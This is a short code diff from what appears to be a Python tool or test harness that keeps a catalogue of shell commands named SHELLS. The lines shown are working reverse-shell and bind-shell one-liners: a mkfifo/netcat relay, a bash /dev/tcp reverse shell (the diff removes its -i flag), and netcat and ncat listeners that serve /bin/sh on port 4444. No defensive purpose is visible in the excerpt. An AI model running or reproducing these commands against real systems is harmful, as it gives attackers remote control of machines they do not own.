@@ -164,7 +164,7 @@ SHELLS = (
     Shell("distroless-python-memfd", ("/usr/bin/python3", "-c", PYTHON_MEMFD), "python", user="1000"),
     # relays with a terminal
     Shell("script-relay", "mkfifo /tmp/f;script -qfc 'sh -i' /dev/null </tmp/f | nc.openbsd {H} {P} >/tmp/f"),
-    Shell("script-devtcp", "script -qc \"bash -c 'bash -i >& /dev/tcp/{H}/{P} 0>&1'\" /dev/null"),
+    Shell("script-devtcp", "script -qc \"bash -c 'bash >& /dev/tcp/{H}/{P} 0>&1'\" /dev/null"),
     # bind shells: the attacker calls
     Shell("bind-nc-e", "nc.traditional -l -p 4444 -e /bin/sh", listener="bind"),
     Shell("bind-ncat", "ncat -l 4444 -e /bin/bash", listener="bind", user="1000"),
